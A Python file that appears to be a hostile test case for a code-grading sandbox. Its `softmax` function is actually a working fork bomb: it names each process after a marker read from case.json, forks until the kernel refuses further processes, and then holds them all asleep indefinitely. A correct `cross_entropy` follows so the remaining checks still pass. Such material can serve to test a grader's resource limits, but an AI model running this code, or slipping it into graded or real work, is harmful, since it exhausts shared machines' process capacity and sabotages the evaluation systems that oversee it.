"""Hostile (batch): a fork bomb that holds its processes. Every process forks until the kernel
refuses (RLIMIT_NPROC, pids.max), then sleeps: the processes stay, taking the uid's (or the
slot's) whole process budget for as long as the grader lets them live."""
import ctypes
import json
import os
import time

import numpy as np


def _marker():
    try:
        with open("case.json") as f:
            return json.load(f)["marker"]
    except (OSError, ValueError, KeyError):
        return "hb-forkhold"


def softmax(o):
    # every process named after the marker (inherited by fork): the test looks for survivors
    ctypes.CDLL(None).prctl(15, _marker().encode()[:15], 0, 0, 0)  # PR_SET_NAME
    failures = 0
    while failures < 200:  # fork until refused a while, then hold
        try:
            if os.fork() == 0:
                failures = 0
                continue  # the child forks too
        except OSError:
            failures += 1
            time.sleep(0.005)
    while True:
        time.sleep(3600)


# --- correct, untouched by the attack: the checks after the attack still run and pass ------------
def cross_entropy(o, t):
    o = np.asarray(o, dtype=np.float64)
    t = np.asarray(t).astype(np.int64).reshape(-1)
    m = o.max(axis=1, keepdims=True)
    lse = m[:, 0] + np.log(np.exp(o - m).sum(axis=1))
    return float(np.mean(lse - o[np.arange(len(t)), t]))
